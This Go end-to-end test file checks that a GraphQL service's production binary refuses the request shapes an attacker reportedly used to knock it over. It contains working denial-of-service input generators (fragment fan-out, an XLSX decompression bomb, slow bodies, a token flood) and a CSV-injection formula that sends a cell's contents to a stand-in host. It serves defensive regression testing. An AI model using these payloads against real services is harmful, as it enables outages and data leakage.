package e2e

import (
	"archive/zip"
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/actorgraph/actorgraph/httpapi/apitest"
	"github.com/actorgraph/actorgraph/store/storetest"
)

// The shapes an attacker used to take the service down (issue 12), sent
// to the production binary (ACTORGRAPH_ENV=production, every default
// limit) by callers with the lowest role that could send each. Each must
// be refused with its code, or answered within its bounds, and the
// server's memory must stay far below what the shapes took before. The
// time each took is logged (the figures of the note); what the
// test pins is the code, which says the work was refused rather than
// done, and the server's peak memory, not the wall clock.

// hostilePeakRSS is the most resident memory the server may ever reach
// while it is attacked: the shapes took 1 to 3 GB before, and the
// service with the hostile map and a Neo4j driver stays near 100 MB.
const hostilePeakRSS = 512 << 20

// hostileServer is the production binary, started for one test.
type hostileServer struct {
	base string
	cmd  *exec.Cmd
	logs *syncBuffer
	api  *apitest.API // as the admin
}

// syncBuffer is a bytes.Buffer safe for the process's two output pipes
// and the test's reads.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// buildBinary builds the actorgraph command into dir.
func buildBinary(t *testing.T) string {
	t.Helper()
	bin := filepath.Join(t.TempDir(), "actorgraph")
	build := exec.Command("go", "build", "-o", bin, ".")
	build.Dir = ".." // the module's root: the actorgraph command
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("build: %v\n%s", err, out)
	}
	return bin
}

// startProduction runs the binary in production over the suite's Neo4j,
// with the flags given beside the defaults.
func startProduction(t *testing.T, flags ...string) *hostileServer {
	t.Helper()
	cfg := storetest.Config(t)
	bin := buildBinary(t)
	port := freePort(t)
	args := append([]string{"serve", "--port", fmt.Sprint(port)}, flags...)
	cmd := exec.Command(bin, args...)
	cmd.Env = append(os.Environ(), "NEO4J_URI="+cfg.URI, "ACTORGRAPH_ADMIN_TOKEN="+apitest.AdminToken, "ACTORGRAPH_ENV=production")
	logs := &syncBuffer{}
	cmd.Stdout, cmd.Stderr = logs, logs
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	exited := make(chan error, 1)
	go func() { exited <- cmd.Wait() }()
	t.Cleanup(func() { _ = cmd.Process.Kill(); <-exited })
	base := fmt.Sprintf("http://127.0.0.1:%d", port)
	waitReady(t, base+"/readyz", exited, logs)
	return &hostileServer{base: base, cmd: cmd, logs: logs, api: &apitest.API{T: t, URL: base, Store: storetest.Open(t), Token: apitest.AdminToken}}
}

// peakRSS is the server's peak resident memory so far (VmHWM).
func (s *hostileServer) peakRSS(t *testing.T) int64 {
	t.Helper()
	raw, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", s.cmd.Process.Pid))
	if err != nil {
		t.Fatalf("read the server's memory: %v", err)
	}
	for _, line := range strings.Split(string(raw), "\n") {
		if rest, ok := strings.CutPrefix(line, "VmHWM:"); ok {
			kb, err := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(rest), " kB"), 10, 64)
			if err != nil {
				t.Fatalf("VmHWM %q: %v", rest, err)
			}
			return kb << 10
		}
	}
	t.Fatal("no VmHWM in /proc/<pid>/status")
	return 0
}

// hostileOutcome is what one hostile request got.
type hostileOutcome struct {
	status  int
	code    string
	message string
	elapsed time.Duration
	err     error
}

func (o hostileOutcome) String() string {
	if o.err != nil {
		return fmt.Sprintf("error %v after %v", o.err, o.elapsed.Round(time.Millisecond))
	}
	return fmt.Sprintf("HTTP %d %s %q in %v", o.status, o.code, o.message, o.elapsed.Round(time.Millisecond))
}

// hostileClient sends requests as one caller.
type hostileClient struct {
	base, token string
	http        *http.Client
}

func (c hostileClient) post(body io.Reader, length int64, header map[string]string) hostileOutcome {
	began := time.Now()
	req, _ := http.NewRequest(http.MethodPost, c.base+"/graphql", body)
	req.ContentLength = length
	req.Header.Set("Content-Type", "application/json")
	for k, v := range header {
		req.Header.Set(k, v)
	}
	if c.token != "" {
		req.Header.Set("Authorization", "Bearer "+c.token)
	}
	resp, err := c.http.Do(req)
	if err != nil {
		return hostileOutcome{err: err, elapsed: time.Since(began)}
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(io.LimitReader(resp.Body, 64<<20))
	o := hostileOutcome{status: resp.StatusCode, elapsed: time.Since(began)}
	var r apitest.Response
	if json.Unmarshal(raw, &r) == nil && len(r.Errors) > 0 {
		o.code, o.message = r.Code(), r.Errors[0].Message
		return o
	}
	// An import refuses a file in its report: one problem, nothing written.
	var rep struct {
		ImportActorMap struct {
			Problems []struct{ Code, Message string }
		}
	}
	if json.Unmarshal(r.Data, &rep) == nil && len(rep.ImportActorMap.Problems) > 0 {
		o.code, o.message = rep.ImportActorMap.Problems[0].Code, rep.ImportActorMap.Problems[0].Message
	}
	return o
}

func (c hostileClient) query(q string, vars map[string]any) hostileOutcome {
	body, _ := json.Marshal(map[string]any{"query": q, "variables": vars})
	return c.post(bytes.NewReader(body), int64(len(body)), nil)
}

// upload sends a dry-run import of files (name → a reader of size
// bytes) as multipart, streamed, and counts the bytes the server took.
func (c hostileClient) upload(ws string, name string, size int64, content io.Reader, sent *atomic.Int64) hostileOutcome {
	return c.uploadQuery(ws, `mutation($ws: ID!, $files: [Upload!]!) {
		importActorMap(workspace: $ws, files: $files, dryRun: true) { dryRun problems { code message } } }`, name, size, content, sent)
}

// uploadQuery is upload with the import's query given.
func (c hostileClient) uploadQuery(ws, query string, name string, size int64, content io.Reader, sent *atomic.Int64) hostileOutcome {
	ops, _ := json.Marshal(map[string]any{"query": query, "variables": map[string]any{"ws": ws, "files": []any{nil}}})
	var head bytes.Buffer
	mw := multipart.NewWriter(&head)
	_ = mw.WriteField("operations", string(ops))
	_ = mw.WriteField("map", `{"0":["variables.files.0"]}`)
	if _, err := mw.CreateFormFile("0", name); err != nil {
		return hostileOutcome{err: err}
	}
	prefix := append([]byte(nil), head.Bytes()...)
	tail := "\r\n--" + mw.Boundary() + "--\r\n"
	body := io.MultiReader(bytes.NewReader(prefix), content, strings.NewReader(tail))
	counted := &countingReader{r: body, n: sent}
	return c.post(counted, int64(len(prefix))+size+int64(len(tail)), map[string]string{
		"Content-Type": mw.FormDataContentType(), "GraphQL-Require-Preflight": "1"})
}

type countingReader struct {
	r io.Reader
	n *atomic.Int64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n.Add(int64(n))
	return n, err
}

// fragmentFanOut is a chain of n fragments, each spreading the next
// twice, ending in { __typename }: 2^n fields once expanded.
func fragmentFanOut(n int) string {
	var b strings.Builder
	b.WriteString("query { ...F0 }\n")
	for i := 0; i < n-1; i++ {
		fmt.Fprintf(&b, "fragment F%d on Query { ...F%d ...F%d }\n", i, i+1, i+1)
	}
	fmt.Fprintf(&b, "fragment F%d on Query { __typename }\n", n-1)
	return b.String()
}

// repeatedField is one selection set repeating __typename n times.
func repeatedField(n int) string {
	return "query { " + strings.Repeat("__typename ", n) + "}"
}

// nestedNullFirst nests the relationship lists levels deep, each with
// an explicit first: null (which the lists answer as their default page).
func nestedNullFirst(levels int) string {
	inner := "id"
	for i := 0; i < levels-1; i++ {
		inner = fmt.Sprintf("relationships(first: null) { edges { node { from { %s } } } }", inner)
	}
	return fmt.Sprintf(`query($ws: ID!) { workspace(id: $ws) { actors(first: null) { edges { node { %s } } } } }`, inner)
}

// fiveClosures asks for gapClosures five times, with distinct thresholds
// (each missed the analysis cache).
func fiveClosures() string {
	var b strings.Builder
	b.WriteString(`query($ws: ID!) { workspace(id: $ws) {`)
	for i, th := range []string{"0.21", "0.22", "0.23", "0.24", "0.26"} {
		fmt.Fprintf(&b, " c%d: gapClosures(first: 500, threshold: %s, maxHops: 8) { severityRemoved }", i, th)
	}
	b.WriteString(" } }")
	return b.String()
}

// csvWideHeader is a CSV actor table whose header has columns columns.
func csvWideHeader(columns int) []byte {
	var b bytes.Buffer
	b.WriteString("name,kind")
	for i := 2; i < columns; i++ {
		fmt.Fprintf(&b, ",c%d", i)
	}
	b.WriteString("\nA,COMMUNITY\n")
	return b.Bytes()
}

// xlsxSharedStringBomb is a small XLSX whose shared-string table holds n
// strings: excelize writes a real workbook, and its sharedStrings.xml is
// replaced by a highly compressible one.
func xlsxSharedStringBomb(t *testing.T, n int) []byte {
	t.Helper()
	f := excelize.NewFile()
	_ = f.SetSheetName("Sheet1", "actors")
	_ = f.SetSheetRow("actors", "A1", &[]any{"name", "kind"})
	_ = f.SetSheetRow("actors", "A2", &[]any{"A", "COMMUNITY"})
	var plain bytes.Buffer
	if err := f.Write(&plain); err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(plain.Bytes()), int64(plain.Len()))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, e := range zr.File {
		if e.Name == "xl/sharedStrings.xml" {
			continue
		}
		w, _ := zw.Create(e.Name)
		r, _ := e.Open()
		_, _ = io.Copy(w, r)
		r.Close()
	}
	w, _ := zw.Create("xl/sharedStrings.xml")
	bw := bufio.NewWriter(w)
	fmt.Fprintf(bw, `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="%d" uniqueCount="%d">`, n, n)
	bw.WriteString("<si><t>name</t></si><si><t>kind</t></si><si><t>A</t></si><si><t>COMMUNITY</t></si>")
	for i := 4; i < n; i++ {
		bw.WriteString("<si><t>x</t></si>")
	}
	bw.WriteString("</sst>")
	_ = bw.Flush()
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

var xlsxBombOnce struct {
	sync.Once
	data []byte
}

// xlsxBomb is xlsxSharedStringBomb of 10 million strings, built once.
func xlsxBomb(t *testing.T) []byte {
	xlsxBombOnce.Do(func() { xlsxBombOnce.data = xlsxSharedStringBomb(t, 10_000_000) })
	return xlsxBombOnce.data
}

// repeatByte is a reader of n copies of c, never held in memory.
type repeatByte struct {
	c    byte
	left int64
}

func (r *repeatByte) Read(p []byte) (int, error) {
	if r.left <= 0 {
		return 0, io.EOF
	}
	n := int64(len(p))
	if n > r.left {
		n = r.left
	}
	for i := range p[:n] {
		p[i] = r.c
	}
	r.left -= n
	return int(n), nil
}

func TestHostileShapesAgainstProductionBinary(t *testing.T) {
	t.Parallel()
	srv := startProduction(t, "--read-timeout", "5s")
	admin := srv.api
	m := newHostileMap(t, admin, "hostile shapes")
	ws, actorID, viewer, analyst, importer := m.ws, m.actorID, m.viewer, m.analyst, m.editor
	client := &http.Client{Timeout: 3 * time.Minute}
	as := func(token string) hostileClient { return hostileClient{base: srv.base, token: token, http: client} }

	shapes := hostileShapes(t, srv.base, ws, actorID, viewer, analyst, importer)
	for _, s := range shapes {
		o := s.send()
		t.Logf("%-62s %v; server peak %d MiB", s.name, o, srv.peakRSS(t)>>20)
		if o.err != nil || !slices.Contains(s.want, o.code) {
			t.Errorf("%s: %v; want one of %q", s.name, o, s.want)
		}
		if strings.Contains(o.message, "Did you mean") {
			t.Errorf("%s: a suggestion in production: %q", s.name, o.message)
		}
	}

	t.Run("a viewer's 200 MB upload is refused before it is read", func(t *testing.T) {
		var sent atomic.Int64
		o := as(viewer).upload(ws, "actors.csv", 200<<20, &repeatByte{c: 'x', left: 200 << 20}, &sent)
		t.Logf("viewer's upload: %v after %d KiB sent", o, sent.Load()>>10)
		if o.code != "FORBIDDEN" {
			t.Errorf("viewer's upload: %v; want FORBIDDEN", o)
		}
		if sent.Load() > 32<<20 {
			t.Errorf("the server took %d MiB of a refused upload", sent.Load()>>20)
		}
	})
	t.Run("an import whose query the limits refuse is refused before its files are read", func(t *testing.T) {
		var sent atomic.Int64
		query := `mutation($ws: ID!, $files: [Upload!]!) { importActorMap(workspace: $ws, files: $files, dryRun: true) { ` +
			strings.Repeat("dryRun ", 14_900) + `} }`
		o := as(importer).uploadQuery(ws, query, "actors.csv", 200<<20, &repeatByte{c: 'x', left: 200 << 20}, &sent)
		t.Logf("an editor's 200 MB import with 14,900 fields: %v after %d KiB sent", o, sent.Load()>>10)
		if o.code != "QUERY_TOO_LARGE" {
			t.Errorf("an editor's import with 14,900 fields: %v; want QUERY_TOO_LARGE", o)
		}
		if sent.Load() > 32<<20 {
			t.Errorf("the server took %d MiB of an import its limits refuse", sent.Load()>>20)
		}
	})
	t.Run("slow bodies are cut off", func(t *testing.T) { slowBodies(t, srv.base, 20, 5*time.Second) })
	t.Run("made-up tokens do not lock out a good one", func(t *testing.T) { tokenFlood(t, srv.base, viewer, ws) })
	t.Run("formula cells are neutralised in CSV exports", func(t *testing.T) { formulaExport(t, admin, ws) })

	if peak := srv.peakRSS(t); peak > hostilePeakRSS {
		t.Errorf("the server's memory peaked at %d MiB; at most %d MiB", peak>>20, hostilePeakRSS>>20)
	}
	if strings.Count(srv.logs.String(), "stacktrace") > 0 {
		t.Errorf("the server logged stack traces while attacked:\n%s", srv.logs.String())
	}
}

// hostileMap is the workspace the attack runs against (the crafted
// clique), one of its actors, and a token for each role that attacks.
type hostileMap struct {
	ws, actorID             string
	viewer, analyst, editor string
}

func newHostileMap(t *testing.T, admin *apitest.API, name string) hostileMap {
	t.Helper()
	m := hostileMap{ws: admin.CreateWorkspace(name)}
	loadClique(t, admin, m.ws)
	var one struct {
		Workspace struct {
			Actors struct {
				Edges []struct{ Node struct{ ID string } }
			}
		}
	}
	admin.OK(`query($ws: ID!) { workspace(id: $ws) { actors(first: 1) { edges { node { id } } } } }`, map[string]any{"ws": m.ws}, &one)
	m.actorID = one.Workspace.Actors.Edges[0].Node.ID
	m.viewer, _ = admin.CreateToken(m.ws, "VIEWER", "")
	m.analyst, _ = admin.CreateToken(m.ws, "ANALYST", "")
	m.editor, _ = admin.CreateToken(m.ws, "EDITOR", "")
	return m
}

// loadClique imports the crafted map that made brokers(maxHops: 8) run
// for 32 s: a 17-member DIALOGUE clique, and villages each joined to it
// by one gateway, under a force that answers to one clique member.
func loadClique(t *testing.T, a *apitest.API, ws string) {
	t.Helper()
	var actors, rels bytes.Buffer
	aw, rw := csv.NewWriter(&actors), csv.NewWriter(&rels)
	_ = aw.Write([]string{"externalId", "name", "kind"})
	_ = rw.Write([]string{"from", "to", "type", "strength"})
	const clique, villages = 17, 6
	for i := 0; i < clique; i++ {
		_ = aw.Write([]string{fmt.Sprintf("k%d", i), fmt.Sprintf("Forum %d", i), "CIVIL_SOCIETY"})
		for j := i + 1; j < clique; j++ {
			_ = rw.Write([]string{fmt.Sprintf("k%d", i), fmt.Sprintf("k%d", j), "DIALOGUE", "0.9"})
		}
	}
	for v := 0; v < villages; v++ {
		_ = aw.Write([]string{fmt.Sprintf("v%d", v), fmt.Sprintf("Village %d", v), "COMMUNITY"})
		_ = aw.Write([]string{fmt.Sprintf("f%d", v), fmt.Sprintf("Force %d", v), "SECURITY_FORCE"})
		_ = rw.Write([]string{fmt.Sprintf("v%d", v), fmt.Sprintf("k%d", v), "DIALOGUE", "0.9"})
		_ = rw.Write([]string{fmt.Sprintf("f%d", v), fmt.Sprintf("v%d", v), "PROVIDES_SECURITY", "0.9"})
		_ = rw.Write([]string{fmt.Sprintf("f%d", v), fmt.Sprintf("k%d", clique-1-v), "ACCOUNTABLE_TO", "0.1"})
	}
	aw.Flush()
	rw.Flush()
	rep := a.ImportOK(map[string]any{"ws": ws}, []apitest.Upload{{Name: "actors.csv", Data: actors.Bytes()}, {Name: "relationships.csv", Data: rels.Bytes()}})
	if len(rep.Problems) > 0 || rep.Actors.Created != clique+2*villages {
		t.Fatalf("the clique map: %+v", rep)
	}
}

// slowBodies opens n connections that announce a 1,000-byte body and
// send 10 bytes, and checks that the server closes every one of them
// well after its read timeout but long before "forever" (they stayed
// open past 70 s before).
func slowBodies(t *testing.T, base string, n int, readTimeout time.Duration) {
	host := strings.TrimPrefix(base, "http://")
	limit := readTimeout + 30*time.Second // a busy machine's margin
	var wg sync.WaitGroup
	var open atomic.Int64
	began := time.Now()
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := net.Dial("tcp", host)
			if err != nil {
				t.Errorf("dial: %v", err)
				return
			}
			defer c.Close()
			fmt.Fprintf(c, "POST /graphql HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{\"query\":", host)
			_ = c.SetReadDeadline(time.Now().Add(limit))
			_, err = io.Copy(io.Discard, c) // until the server closes
			if ne, ok := err.(net.Error); ok && ne.Timeout() {
				open.Add(1)
			}
		}()
	}
	wg.Wait()
	t.Logf("%d slow bodies: %d still open after %v; all ended in %v", n, open.Load(), limit, time.Since(began).Round(time.Millisecond))
	if open.Load() > 0 {
		t.Errorf("%d of %d slow-body connections still open after %v (read timeout %v)", open.Load(), n, limit, readTimeout)
	}
}

// tokenFlood sends made-up tokens back to back from the same
// address as a legitimate viewer, who must never be refused for it.
func tokenFlood(t *testing.T, base, good, ws string) {
	client := &http.Client{Timeout: time.Minute}
	goodClient := hostileClient{base: base, token: good, http: client}
	if o := goodClient.query(`query($ws: ID!) { workspace(id: $ws) { name } }`, map[string]any{"ws": ws}); o.code != "" {
		t.Fatalf("the good token before the flood: %v", o)
	}
	// The flood runs back to back from two clients until its address's
	// bucket of rejected credentials is empty (however slow a busy machine
	// makes each request); the good token is then used while it stays so.
	stop, emptied := make(chan struct{}), make(chan struct{})
	var once sync.Once
	var flood sync.WaitGroup
	var refused, limited atomic.Int64
	for f := 0; f < 2; f++ {
		flood.Add(1)
		go func() {
			defer flood.Done()
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				o := hostileClient{base: base, token: fmt.Sprintf("made-up-token-%d-%d", f, i), http: client}.query(`{ __typename }`, nil)
				switch o.code {
				case "UNAUTHENTICATED":
					refused.Add(1)
				case "RATE_LIMITED":
					limited.Add(1)
					once.Do(func() { close(emptied) })
				}
			}
		}()
	}
	select {
	case <-emptied:
	case <-time.After(2 * time.Minute):
		close(stop)
		flood.Wait()
		t.Fatalf("the flood of made-up tokens was never rate-limited (%d refused as unknown in 2 minutes)", refused.Load())
	}
	var goodRefused []string
	for i := 0; i < 12; i++ {
		time.Sleep(100 * time.Millisecond)
		if o := goodClient.query(`query($ws: ID!) { workspace(id: $ws) { name } }`, map[string]any{"ws": ws}); o.code != "" {
			goodRefused = append(goodRefused, o.String())
		}
	}
	close(stop)
	flood.Wait()
	t.Logf("flood: %d refused as unknown, %d rate-limited; good token refused %d of 12", refused.Load(), limited.Load(), len(goodRefused))
	if len(goodRefused) > 0 {
		t.Errorf("the good token was refused during the flood: %q", goodRefused)
	}
}

// formulaExport checks that a name that is a spreadsheet formula is
// exported to CSV neutralised, and read back as it was.
func formulaExport(t *testing.T, a *apitest.API, ws string) {
	name := `=HYPERLINK("http://x/?"&B2,"Open")`
	a.CreateActor(ws, map[string]any{"kind": "COMMUNITY", "name": name, "description": "+1 and -1 @ once"})
	resp, err := a.Get("/export/" + ws + ".csv")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	zr, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
	if err != nil {
		t.Fatalf("the CSV export is not a zip: %v", err)
	}
	var found bool
	for _, f := range zr.File {
		if f.Name != "actors.csv" {
			continue
		}
		r, _ := f.Open()
		rows, err := csv.NewReader(r).ReadAll()
		r.Close()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("a CSV cell begins with %q: %q", cell[0], cell)
				}
				if cell == "'"+name {
					found = true
				}
			}
		}
	}
	if !found {
		t.Errorf("the formula name is not in actors.csv as '%s", name)
	}
}

// hostileShape is one request of the attack, and the codes that say the
// service refused it ("" where an answer within bounds is right).
type hostileShape struct {
	name string
	send func() hostileOutcome
	want []string
}

// hostileShapes are the attack's requests against workspace ws (the
// crafted clique; actorID one of its actors), each sent by the caller
// with the lowest role that could send it.
func hostileShapes(t *testing.T, base, ws, actorID, viewer, analyst, importer string) []hostileShape {
	client := &http.Client{Timeout: 3 * time.Minute}
	as := func(token string) hostileClient { return hostileClient{base: base, token: token, http: client} }
	vars := map[string]any{"ws": ws}
	return []hostileShape{
		{"24 fragments, each spreading the next twice (viewer)", func() hostileOutcome { return as(viewer).query(fragmentFanOut(24), nil) }, []string{"QUERY_TOO_LARGE"}},
		{"40 fragments, each spreading the next twice (viewer)", func() hostileOutcome { return as(viewer).query(fragmentFanOut(40), nil) }, []string{"QUERY_TOO_LARGE"}},
		{"one selection set repeating a field 14,900 times", func() hostileOutcome { return as(viewer).query(repeatedField(14_900), nil) }, []string{"QUERY_TOO_LARGE"}},
		{"three nested lists with first: null (viewer)", func() hostileOutcome { return as(viewer).query(nestedNullFirst(3), vars) }, []string{"COMPLEXITY_LIMIT_EXCEEDED"}},
		{"nodes(ids:) with one id 1,000 times (viewer)", func() hostileOutcome {
			return as(viewer).query(`query($ids: [ID!]!) { nodes(ids: $ids) { id } }`, map[string]any{"ids": slices.Repeat([]string{actorID}, 1000)})
		}, []string{"BAD_USER_INPUT"}},
		{"five aliased gapClosures with distinct thresholds (analyst)", func() hostileOutcome { return as(analyst).query(fiveClosures(), vars) }, []string{"COMPLEXITY_LIMIT_EXCEEDED"}},
		{"brokers(maxHops: 8) on the crafted clique (analyst)", func() hostileOutcome {
			return as(analyst).query(`query($ws: ID!) { workspace(id: $ws) { brokers(maxHops: 8, first: 500) { actor { id } pairs } } }`, vars)
		}, []string{"ANALYSIS_LIMIT_EXCEEDED", ""}},
		{"threshold: NaN as a variable (analyst)", func() hostileOutcome {
			return as(analyst).query(`query($ws: ID!, $t: Float!) { workspace(id: $ws) { accountabilityGaps(threshold: $t) { totalCount } } }`,
				map[string]any{"ws": ws, "t": "NaN"})
		}, []string{"BAD_USER_INPUT", "GRAPHQL_VALIDATION_FAILED"}},
		{"introspection in production (viewer)", func() hostileOutcome { return as(viewer).query(`{ __schema { types { name } } }`, nil) }, []string{"INTROSPECTION_DISABLED"}},
		{"a CSV whose header has 20,000 columns (importer, dry run)", func() hostileOutcome {
			var sent atomic.Int64
			data := csvWideHeader(20_000)
			return as(importer).upload(ws, "actors.csv", int64(len(data)), bytes.NewReader(data), &sent)
		}, []string{"TOO_LARGE"}},
		{"an XLSX of 10 million shared strings (importer, dry run)", func() hostileOutcome {
			var sent atomic.Int64
			data := xlsxBomb(t)
			return as(importer).upload(ws, "actors.xlsx", int64(len(data)), bytes.NewReader(data), &sent)
		}, []string{"TOO_LARGE"}},
		{"one 100 MB cell (importer, dry run)", func() hostileOutcome {
			var sent atomic.Int64
			head := []byte("name,kind\n")
			size := int64(len(head)) + 100<<20 + int64(len(",COMMUNITY\n"))
			content := io.MultiReader(bytes.NewReader(head), &repeatByte{c: 'x', left: 100 << 20}, strings.NewReader(",COMMUNITY\n"))
			return as(importer).upload(ws, "actors.csv", size, content, &sent)
		}, []string{"TOO_LARGE"}},
	}
}

// TestSoakHostile is the soak with an attacker: honest clients (readers,
// a writer, an analyst) load the production binary for SOAK_DURATION on
// their own, then as long again beside a hostile client that sends the
// attack's shapes in a loop. Every honest request must succeed in both
// halves and every hostile one be refused; the honest clients' p95
// latency in each half is logged (what the attack still costs them).
func TestSoakHostile(t *testing.T) {
	t.Parallel()
	d := soakDuration(t)
	srv := startProduction(t, "--rate-limit", "0") // honest load, not the rate limit, is measured
	admin := srv.api
	m := newHostileMap(t, admin, "hostile soak")
	ws, actorID, viewer, analyst, editor := m.ws, m.actorID, m.viewer, m.analyst, m.editor
	client := &http.Client{Timeout: 2 * time.Minute}
	honest := []struct {
		name, token, query string
	}{
		{"read", viewer, `query($ws: ID!) { workspace(id: $ws) { actors(first: 20) { edges { node { id name } } } } }`},
		{"relationships", viewer, `query($ws: ID!) { workspace(id: $ws) { relationships(first: 20) { edges { node { id type from { id } to { id } } } } } }`},
		{"gaps", analyst, `query($ws: ID!) { workspace(id: $ws) { accountabilityGaps(first: 10) { totalCount } } }`},
		{"write", editor, `mutation($ws: ID!) { createActor(workspace: $ws, input: {kind: COMMUNITY, name: "soak village"}) { id } }`},
	}
	// Warm the statements once, as the outage soak does: a cold plan is
	// not what this measures.
	for _, h := range honest {
		if o := (hostileClient{base: srv.base, token: h.token, http: client}).query(h.query, map[string]any{"ws": ws}); o.code != "" || o.err != nil {
			t.Fatalf("warm-up %s: %v", h.name, o)
		}
	}
	// The attacker is a caller of its own: with the honest analyst's
	// token, its analyses and the honest ones would take turns at that
	// caller's analysis slot (RATE_LIMITED for whichever came second),
	// which a busy machine makes likely and which is not what this measures.
	attacker, _ := admin.CreateToken(ws, "ANALYST", "")
	shapes := hostileShapes(t, srv.base, ws, actorID, viewer, attacker, editor)

	type result struct {
		latencies []time.Duration
		failures  []string
	}
	phase := func(hostile bool) (honestRes result, hostileSent int, hostileBad []string) {
		var mu sync.Mutex
		stop := make(chan struct{})
		var wg sync.WaitGroup
		for _, h := range honest {
			wg.Add(1)
			go func() {
				defer wg.Done()
				c := hostileClient{base: srv.base, token: h.token, http: client}
				for {
					select {
					case <-stop:
						return
					default:
					}
					o := c.query(h.query, map[string]any{"ws": ws})
					mu.Lock()
					honestRes.latencies = append(honestRes.latencies, o.elapsed)
					if o.err != nil || o.code != "" {
						honestRes.failures = append(honestRes.failures, h.name+": "+o.String())
					}
					mu.Unlock()
				}
			}()
		}
		if hostile {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := 0; ; i++ {
					select {
					case <-stop:
						return
					default:
					}
					s := shapes[i%len(shapes)]
					o := s.send()
					mu.Lock()
					hostileSent++
					if o.err != nil || !slices.Contains(s.want, o.code) {
						hostileBad = append(hostileBad, s.name+": "+o.String())
					}
					mu.Unlock()
				}
			}()
		}
		time.Sleep(d)
		close(stop)
		wg.Wait()
		return honestRes, hostileSent, hostileBad
	}
	calm, _, _ := phase(false)
	attacked, sent, bad := phase(true)
	t.Logf("honest clients alone: %d requests, p95 %v; beside the hostile client (%d requests): %d requests, p95 %v; server peak %d MiB",
		len(calm.latencies), p95(calm.latencies), sent, len(attacked.latencies), p95(attacked.latencies), srv.peakRSS(t)>>20)
	for _, f := range append(calm.failures, attacked.failures...) {
		t.Errorf("honest request failed: %s", f)
	}
	for _, b := range bad {
		t.Errorf("hostile request not refused: %s", b)
	}
	if sent == 0 {
		t.Error("the hostile client sent nothing")
	}
	if peak := srv.peakRSS(t); peak > hostilePeakRSS {
		t.Errorf("the server's memory peaked at %d MiB; at most %d MiB", peak>>20, hostilePeakRSS>>20)
	}
}

// p95 is the 95th percentile of ds (0 for none).
func p95(ds []time.Duration) time.Duration {
	if len(ds) == 0 {
		return 0
	}
	s := slices.Clone(ds)
	slices.Sort(s)
	return s[(len(s)*95)/100].Round(time.Millisecond)
}
